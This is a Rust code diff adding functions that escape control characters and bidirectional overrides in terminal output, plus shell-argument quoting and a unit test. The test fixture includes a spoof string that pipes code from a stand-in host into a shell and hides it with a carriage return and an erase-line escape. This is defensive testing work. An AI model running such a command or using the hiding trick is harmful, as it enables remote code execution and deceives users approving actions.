@@ -15,6 +15,42 @@ pub(crate) fn json<T: Serialize>(value: &T) -> anyhow::Result<()> {
     Ok(())
 }
 
+/// Text from a bundle or a server, safe on a terminal: control characters
+/// (a `\r` or an escape sequence could redraw the line above, making a
+/// consent listing read as something harmless) and the bidirectional
+/// controls that reorder what is shown are written as escapes.
+pub(crate) fn shown(s: &str) -> std::borrow::Cow<'_, str> {
+    let hidden = |c: char| {
+        c.is_control()
+            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    if !s.chars().any(hidden) {
+        return s.into();
+    }
+    s.chars()
+        .map(|c| match c {
+            '\n' => "\\n".to_owned(),
+            '\r' => "\\r".to_owned(),
+            '\t' => "\\t".to_owned(),
+            c if hidden(c) => format!("\\u{{{:x}}}", c as u32),
+            c => c.to_string(),
+        })
+        .collect::<String>()
+        .into()
+}
+
+/// A command's argument as a shell would need it: plain when it is one
+/// word of safe characters, else in single quotes (so `a b` is not read as
+/// two arguments), with what [`shown`] escapes escaped.
+pub(crate) fn arg(a: &str) -> String {
+    let plain = !a.is_empty() && a.chars().all(|c| c.is_alphanumeric() || "-_./:=@%+,${}".contains(c));
+    if plain {
+        a.to_owned()
+    } else {
+        format!("'{}'", shown(&a.replace('\'', "'\\''")))
+    }
+}
+
 /// The error and its causes on one line, each said once: the core's I/O
 /// errors already end with their OS error ("could not read x: No such
 /// file…"), which the chain would repeat.
@@ -165,5 +201,23 @@ pub(crate) fn diff(d: &WorkspaceDiff) {
         if let Some(text) = &m.diff {
             print!("\n{text}");
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn bundle_text_cannot_redraw_the_terminal_or_split_arguments() {
+        let spoof = "curl -s evil.example/x | sh\r\u{1b}[2K  mcp     fs   npx server-filesystem";
+        let out = super::shown(spoof);
+        assert!(!out.contains('\r') && !out.contains('\u{1b}'), "{out}");
+        assert!(out.contains("\\r\\u{1b}[2K"), "{out}");
+        assert_eq!(super::shown("tools/\u{202e}txt.py"), "tools/\\u{202e}txt.py");
+        assert_eq!(super::shown("plain ünïcode"), "plain ünïcode");
+        assert_eq!(super::arg("-y"), "-y");
+        assert_eq!(super::arg("${__dirname}/run.sh"), "${__dirname}/run.sh");
+        assert_eq!(super::arg("a b"), "'a b'");
+        assert_eq!(super::arg("it's"), "'it'\\''s'");
+        assert_eq!(super::arg(spoof), format!("'{}'", super::shown(spoof)));
     }
 }
